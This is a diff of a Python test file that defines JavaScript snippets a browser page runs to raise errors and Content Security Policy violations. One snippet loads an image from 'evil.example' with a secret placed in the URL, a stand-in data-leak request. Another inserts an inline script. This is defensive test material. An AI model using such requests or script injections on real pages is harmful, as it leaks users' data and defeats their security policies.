@@ -7,11 +7,11 @@ from tests.support.staff import Operator, make_staff
 
 SECRET = "Adelheid"  # stands in all that goes wrong here
 ERROR = f"const error = new RangeError('{SECRET} gives ember'); error.code = '{SECRET}';"
-# What is run by the page itself, not by the test, is in no file of ours: so the board does it, which calls our script.
+# Each is run by the page itself, a moment later: an error of the test's own call would be the test's.
 TROUBLES = {
     "RangeError": f"setTimeout(() => {{ {ERROR} throw error }})",
     "TypeError": f"setTimeout(() => Promise.reject(new TypeError('{SECRET}')))",
-    "script-src-elem inline": f"document.body.append(Object.assign(document.createElement('script'), {{ text: '{SECRET}' }}))",
+    "script-src-elem inline": f"const it = document.createElement('script'); it.text = '{SECRET}'; document.body.append(it)",
     "img-src https://evil.example": f"new Image().src = 'https://evil.example/{SECRET}.png?{SECRET}'",
 }
 
